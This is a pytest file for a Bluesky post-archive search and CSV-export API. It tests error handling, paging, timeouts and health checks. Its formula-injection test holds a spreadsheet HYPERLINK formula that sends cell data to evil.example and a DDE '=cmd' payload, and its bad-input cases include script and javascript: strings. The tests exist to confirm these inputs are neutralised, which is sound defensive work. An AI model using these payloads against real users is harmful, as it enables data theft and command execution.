"""The API in-process (WSGI calls, no server): response shapes, error shapes, odd inputs, cursors, CSV, timeouts,
handles from the identity table and from a real local PLC directory (http.server in a thread)."""

from __future__ import annotations

import csv
import dataclasses
import io
import urllib.parse
import wsgiref.util
from pathlib import Path
from typing import Any

import orjson
import pytest

from firehose.api import create_app
from firehose.config import Settings
from firehose.csv_export import truncation_row
from tests.support.archive import (
    DAY1,
    DAY2,
    DAY3,
    bulk_posts,
    post_row,
    search_settings,
    us,
    write_identity,
    write_posts,
)
from tests.support.services import free_port


class Response:
    """What a WSGI call returned."""

    def __init__(self, status: str, headers: list[tuple[str, str]], body: bytes) -> None:
        self.status = int(status.split(maxsplit=1)[0])
        self.headers = {k.lower(): v for k, v in headers}
        self.body = body

    def json(self) -> Any:
        return orjson.loads(self.body)


def call(app: Any, path: str, query: str = "", method: str = "GET") -> Response:
    """Call the WSGI app like a server would (PATH_INFO and QUERY_STRING as latin-1 native strings)."""
    environ: dict[str, Any] = {}
    wsgiref.util.setup_testing_defaults(environ)
    environ.update(REQUEST_METHOD=method, PATH_INFO=path, QUERY_STRING=query)
    seen: dict[str, Any] = {}

    def start_response(status: str, headers: list[tuple[str, str]], exc_info: Any = None) -> None:
        seen.update(status=status, headers=headers)

    chunks = app(environ, start_response)
    body = b"".join(chunks)
    getattr(chunks, "close", lambda: None)()
    return Response(seen["status"], seen["headers"], body)


def get(app: Any, path: str, **params: Any) -> Response:
    return call(app, path, urllib.parse.urlencode(params, doseq=True))


@pytest.fixture
def data_dir(tmp_path: Path) -> Path:
    data = tmp_path / "data"
    rows = [
        post_row("Hello world", DAY1, did="did:plc:alice", langs=["en"]),
        post_row("hello, new WORLD", DAY2, did="did:plc:bob", mentions=["did:plc:alice"]),
        post_row('text with "quotes", commas\nand a newline', DAY3, did="did:plc:carol"),
        post_row("Привет мир 🦋", DAY3, did="did:plc:alice", langs=["ru"], links=["https://news.example.org/a"]),
    ]
    write_posts(data, rows)
    write_identity(data, [("did:plc:alice", "alice.test", us(DAY1, 1)), ("did:plc:bob", "bob.test", us(DAY1, 2))])
    return data


@pytest.fixture
def app(data_dir: Path) -> Any:
    return create_app(search_settings(data_dir, redis_url="redis://127.0.0.1:1/0"))


def test_search_shape(app: Any) -> None:
    r = get(app, "/search", text="WORLD hello")
    assert r.status == 200 and r.headers["content-type"] == "application/json"
    assert r.headers["access-control-allow-origin"] == "*"
    body = r.json()
    assert [x["text"] for x in body["results"]] == ["hello, new WORLD", "Hello world"]
    first = body["results"][0]
    assert first["username"] == "bob.test" and first["did"] == "did:plc:bob"
    assert first["timestamp"].startswith(DAY2) and first["timestamp"].endswith("Z")
    assert first["mentions"] == ["did:plc:alice"] and first["uri"].startswith("at://did:plc:bob/")
    meta = body["meta"]
    assert meta["count"] == 2 and meta["cursor"] is None and meta["limit"] == 50 and meta["total_cap"] == 1000
    assert meta["query"]["text"] == "WORLD hello" and meta["query"]["sort"] == "latest"
    assert isinstance(meta["took_ms"], float)
    # no day has an index here: each one read is scanned, and says so (as the OpenAPI document describes)
    assert meta["days"] == [{"date": d, "via": "scan", "reason": "missing"} for d in (DAY3, DAY2, DAY1)]
    schema = get(app, "/openapi.json").json()["components"]["schemas"]
    assert set(schema["SearchResponse"]["properties"]["meta"]["required"]) <= set(meta)
    day = schema["DaySource"]["properties"]
    assert all(d["via"] in day["via"]["enum"] and d["reason"] in day["reason"]["enum"] for d in meta["days"])


def test_unknown_did_falls_back_to_the_did(app: Any) -> None:
    r = get(app, "/search", text="quotes")
    assert r.json()["results"][0]["username"] == "did:plc:carol"


def test_username_filter_takes_handle_or_did(app: Any) -> None:
    by_handle = get(app, "/search", username="@Alice.Test").json()
    by_did = get(app, "/search", author="did:plc:alice").json()
    assert [x["text"] for x in by_handle["results"]] == ["Привет мир 🦋", "Hello world"]
    assert by_did["results"] == by_handle["results"]
    unknown = get(app, "/search", username="nobody.test").json()
    assert unknown["results"] == [] and "nobody.test" in unknown["meta"]["warnings"][0]
    assert [x["text"] for x in get(app, "/search", mentions="alice.test").json()["results"]] == ["hello, new WORLD"]


def test_frontend_parameters(app: Any) -> None:
    r = get(app, "/search", text="hello world", exact="true")
    assert [x["text"] for x in r.json()["results"]] == ["Hello world"]
    r = get(app, "/search", text="hello", start=DAY2, end=DAY2)
    assert [x["text"] for x in r.json()["results"]] == ["hello, new WORLD"]
    r = get(app, "/search", lang="ru", domain="example.org")
    assert [x["text"] for x in r.json()["results"]] == ["Привет мир 🦋"]


def error_of(r: Response) -> dict[str, Any]:
    assert r.headers["content-type"] == "application/json", r.body
    body = r.json()
    assert set(body) == {"error"} and set(body["error"]) == {"parameter", "message"}
    return body["error"]


@pytest.mark.parametrize(("query", "parameter"), [
    ("start=2024-02-30", "start"),
    ("since=2024-02-30", "since"),
    ("q=" + "x" * 600, "q"),
    ("limit=0", "limit"),
    ("limit=51", "limit"),
    ("limit=99999999999999999999999999", "limit"),
    ("limit=-1", "limit"),
    ("sort=top", "sort"),
    ("sort=%00", "sort"),
    ("cursor=forged.cursor", "cursor"),
    ("cursor=%F0%9F%A6%8B", "cursor"),
    ("text=" + "x" * 600, "text"),
    ("exact=sure", "exact"),
    ("text=a%00b", "text"),
    ("text=%ff%fe", "text"),
    ("%ff=1", "query"),
    ("text=a&text=b", "text"),
    ("username=a&author=b", "author"),
    ("nope=1", "nope"),
    ("username=%3Cscript%3E", "username"),
    ("&".join(f"tag={i}" for i in range(100)), "query"),
])
def test_bad_input_is_a_400_naming_the_parameter(app: Any, query: str, parameter: str) -> None:
    r = call(app, "/search", query)
    assert r.status == 400
    err = error_of(r)
    assert err["parameter"] == parameter and err["message"]


@pytest.mark.parametrize("query", [
    "text=%", "text=%25", "text=%2", "text=+", "text=&&&", "=", "==&=x", "text=%C3", "text=\xff\xfe",
    "limit=%20%2050", "start=%20", "start=9999-12-31", "end=0001-01-01", "exact=", "cursor=", "tag=%23",
    "text=" + "%E2%80%AE" * 10, "domain=-", "url=javascript:alert(1)", "lang=zz-ZZZZZZZZZ", "text=\\\\%_",
])
def test_odd_inputs_never_500(app: Any, query: str) -> None:
    r = call(app, "/search", query)
    assert r.status in (200, 400), (query, r.status, r.body)
    if r.status == 400:
        error_of(r)


@pytest.mark.parametrize(("path", "method", "status"), [
    ("/nope", "GET", 404), ("/search/extra", "GET", 404), ("/\xff\xfe", "GET", 404), ("/search", "POST", 405),
    ("/export", "DELETE", 405), ("/", "GET", 404),
])
def test_404_and_405_are_json(app: Any, path: str, method: str, status: int) -> None:
    r = call(app, path, "", method)
    assert r.status == status
    error_of(r)


def test_head_is_allowed(app: Any) -> None:
    assert call(app, "/health", "", "HEAD").status in (200, 503)


def test_unexpected_failure_is_a_json_500(app: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    api = app.config["firehose.api"]
    monkeypatch.setattr(api.searcher, "search", lambda *a, **k: 1 / 0)
    r = get(app, "/search", text="x")
    assert r.status == 500 and "internal error" in error_of(r)["message"]


def test_cursor_pages(tmp_path: Path) -> None:
    data = tmp_path / "data"
    bulk_posts(data, DAY1, 80, name="a")
    bulk_posts(data, DAY2, 80, name="b")
    app = create_app(search_settings(data, api_page_size=50, api_max_results=120))
    seen: list[str] = []
    params: dict[str, Any] = {"text": "filler", "limit": 50}
    counts = []
    while True:
        meta = (r := get(app, "/search", **params).json())["meta"]
        seen += [x["uri"] for x in r["results"]]
        counts.append(meta["count"])
        if not meta["cursor"]:
            break
        params["cursor"] = meta["cursor"]
    assert counts == [50, 50, 20] and len(set(seen)) == 120
    other = get(app, "/search", text="other words", cursor=params["cursor"])
    assert other.status == 400 and error_of(other)["parameter"] == "cursor"
    # another worker with the same secret accepts the cursor
    again = create_app(search_settings(data, api_page_size=50, api_max_results=120))
    assert get(again, "/search", **params).status == 200


def test_export_csv(app: Any) -> None:
    r = get(app, "/export", text="")
    assert r.status == 200
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.headers["content-disposition"].startswith('attachment; filename="bluesky-posts-')
    rows = list(csv.DictReader(io.StringIO(r.body.decode())))
    assert len(rows) == 4
    assert rows[0]["text"] == "Привет мир 🦋" and rows[0]["username"] == "alice.test"
    assert rows[0]["langs"] == '["ru"]' and rows[0]["timestamp"].endswith("Z")
    assert rows[1]["text"] == 'text with "quotes", commas\nand a newline' and rows[1]["username"] == "did:plc:carol"
    assert list(rows[0]) == ["timestamp", "username", "text", "uri", "did", "cid", "created_at", "langs",
                             "reply_parent_uri", "reply_root_uri", "embed_type", "embed_uri", "mentions", "links",
                             "tags"]
    limited = list(csv.reader(io.StringIO(get(app, "/export", limit=1).body.decode())))
    assert len(limited) == 3 and limited[2][0].startswith("# truncated: limit of 1 rows reached")  # more match
    assert len(limited[2]) == len(limited[0]) and not any(limited[2][1:])
    assert len(list(csv.reader(io.StringIO(get(app, "/export", limit=4).body.decode())))) == 5  # all: no marker
    empty = list(csv.reader(io.StringIO(get(app, "/export", text="zzzz").body.decode())))
    assert len(empty) == 1 and empty[0][0] == "timestamp"
    assert get(app, "/export", cursor="x").status == 400


def test_truncation_row_says_why_and_where_to_resume() -> None:
    settings = Settings(api_export_timeout=600.0, api_export_max_rows=100_000)
    when = us(DAY1, 5)
    rows = [next(csv.reader(io.StringIO(truncation_row(reason, rows=n, last_time_us=last, sort=sort, limit=100_000,
                                                       settings=settings).decode())))
            for reason, n, last, sort in (("timeout", 7, when, "latest"), ("limit", 7, when, "oldest"),
                                          ("error", 0, None, "latest"))]
    assert [len(r) for r in rows] == [15, 15, 15] and not any(c for r in rows for c in r[1:])
    assert rows[0][0] == ("# truncated: timeout after 600 s (FIREHOSE_API_EXPORT_TIMEOUT); 7 rows; resume with "
                          "end=2024-05-01T00:00:05.000001Z and the other parameters unchanged (posts at the last "
                          "row's time come again)")
    assert rows[1][0].startswith("# truncated: limit of 100000 rows reached and more posts match "
                                 "(FIREHOSE_API_EXPORT_MAX_ROWS: the most one export returns); 7 rows; resume with "
                                 "start=2024-05-01T00:00:05.000000Z ")
    assert rows[2][0] == "# truncated: error on the server (logged there); 0 rows; export again"


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]


def test_export_neutralises_formula_cells_unless_raw(tmp_path: Path) -> None:
    data = tmp_path / "data"
    write_posts(data, [post_row(text, DAY1, seconds=i, created_at="=cmd|' /C calc'!A0") for i, text in
                       enumerate([*FORMULAS, "plain text", "a = b + c"])])
    app = create_app(search_settings(data))
    rows = list(csv.DictReader(io.StringIO(get(app, "/export", sort="oldest").body.decode(), newline="")))
    assert [r["text"] for r in rows] == ["'" + f for f in FORMULAS] + ["plain text", "a = b + c"]
    assert {r["created_at"] for r in rows} == {"'=cmd|' /C calc'!A0"}  # every text column, not only text
    raw = list(csv.DictReader(io.StringIO(get(app, "/export", sort="oldest", raw="true").body.decode(), newline="")))
    assert [r["text"] for r in raw] == [*FORMULAS, "plain text", "a = b + c"]
    assert get(app, "/search", raw="true").status == 400  # raw is an /export parameter


@pytest.mark.parametrize(("query", "parameter"), [
    ("start=notadate", "start"), ("since=notadate", "since"), ("end=2024-13-01", "end"), ("until=x", "until"),
    ("start=2024-05-02&end=2024-05-01", "end"), ("since=2024-05-02&until=2024-05-01", "until"),
    ("username=not%20a%20handle", "username"), ("author=not%20a%20handle", "author"),
    ("q=" + "%20".join(f"w{i}" for i in range(40)), "q"), ("text=" + "%20".join(f"w{i}" for i in range(40)), "text"),
])
def test_errors_name_the_parameter_the_client_sent(app: Any, query: str, parameter: str) -> None:
    for path in ("/search", "/export"):
        r = call(app, path, query)
        assert r.status == 400 and error_of(r)["parameter"] == parameter, (path, query, r.body)


def test_health_fails_when_nothing_can_be_served(tmp_path: Path) -> None:
    r = get(create_app(search_settings(tmp_path / "no-volume-here")), "/health")
    assert r.status == 503 and r.json()["status"] == "fail" and "does not exist" in r.json()["reasons"][0]


def test_export_cap_over_partitions(tmp_path: Path) -> None:
    data = tmp_path / "data"
    for i, day in enumerate((DAY1, DAY2, DAY3)):
        bulk_posts(data, day, 3000, name=f"p{i}")
    app = create_app(search_settings(data, api_export_max_rows=7000))
    rows = list(csv.DictReader(io.StringIO(get(app, "/export").body.decode())))
    assert rows.pop()["timestamp"].startswith("# truncated: limit of 7000 rows reached and more posts match "
                                              "(FIREHOSE_API_EXPORT_MAX_ROWS")
    assert len(rows) == 7000 and len({r["uri"] for r in rows}) == 7000
    assert rows[0]["timestamp"] > rows[-1]["timestamp"]
    assert get(app, "/export", limit=7001).status == 400


def test_timeout_is_a_504_and_the_worker_recovers(tmp_path: Path) -> None:
    data = tmp_path / "data"
    for day in range(1, 29):
        bulk_posts(data, f"2024-02-{day:02d}", 20_000, name=f"b{day}", text="lorem ipsum dolor sit amet " * 8)
    bulk_posts(data, "2024-03-01", 10, name="tiny")
    # a budget no machine can meet: scanning 560k long texts takes ~80 ms here, two orders of magnitude more than
    # 1 ms, and the watchdog's verdict is checked after every statement (an interrupt that lands between two
    # statements is not lost)
    app = create_app(search_settings(data, api_query_timeout=0.001))
    r = get(app, "/search", text="nowhere-to-be-found")
    assert r.status == 504 and "budget" in error_of(r)["message"]
    r = get(app, "/export", text="nowhere-to-be-found")
    assert r.status == 504
    # the same worker and DuckDB connection answer the next query, given a budget it can meet
    searcher = app.config["firehose.api"].searcher
    searcher.settings = dataclasses.replace(searcher.settings, api_query_timeout=60.0)
    assert get(app, "/search", limit=3, start="2024-03-01").status == 200
    metrics = get(app, "/metrics").body.decode()
    assert 'firehose_api_query_errors_total{endpoint="/search",kind="timeout"} 1.0' in metrics


def test_openapi_lists_every_route(app: Any) -> None:
    doc = get(app, "/openapi.json").json()
    assert doc["openapi"].startswith("3.1")
    routes = {(r.rule, r.method) for r in app.routes}
    assert {(p, m.upper()) for p, ops in doc["paths"].items() for m in ops} == routes
    search_params = {p["name"]: p for p in doc["paths"]["/search"]["get"]["parameters"]}
    assert search_params["limit"]["schema"]["maximum"] == 50
    assert search_params["sort"]["schema"]["enum"] == ["latest", "oldest"]
    assert search_params["text"]["schema"]["maxLength"] == 512


def test_health_stats_metrics(app: Any) -> None:
    health = get(app, "/health")
    assert health.status == 200  # serving the archive, but degraded: redis on port 1 is down, the data is old
    body = health.json()
    checks = body["checks"]
    assert body["status"] == "degraded" and len(body["reasons"]) == 2
    assert "Redis does not answer" in body["reasons"][0] and "newest event is" in body["reasons"][1]
    assert checks["redis"]["ok"] is False and checks["data_dir"]["ok"] is True
    assert checks["freshness"]["ok"] is False and checks["freshness"]["newest_event_age_s"] > 0
    stats = get(app, "/stats").json()
    assert stats["tables"]["posts"]["rows"] == 4 and stats["tables"]["identity"]["rows"] == 2
    assert get(app, "/stats", x=1).status == 400
    text = get(app, "/metrics").body.decode()
    assert 'firehose_api_requests_total{endpoint="/health",status="200"} 1.0' in text
    assert "firehose_api_request_seconds_bucket" in text


# ------------------------------------------------------------------------------------------ identity


def test_dead_resolvers_never_fail_a_search(data_dir: Path) -> None:
    dead = f"http://127.0.0.1:{free_port()}"
    app = create_app(search_settings(data_dir, plc_url=dead, resolve_handle_url=dead + "/xrpc",
                                     dns_enabled=True, dns_nameservers=(f"127.0.0.1:{free_port()}",)))
    r = get(app, "/search", text="quotes")
    assert r.status == 200 and r.json()["results"][0]["username"] == "did:plc:carol"  # the DID is shown
    r = get(app, "/search", username="nobody.example.com")
    assert r.status == 200 and r.json()["results"] == []
    assert "could not be resolved" in r.json()["meta"]["warnings"][0]
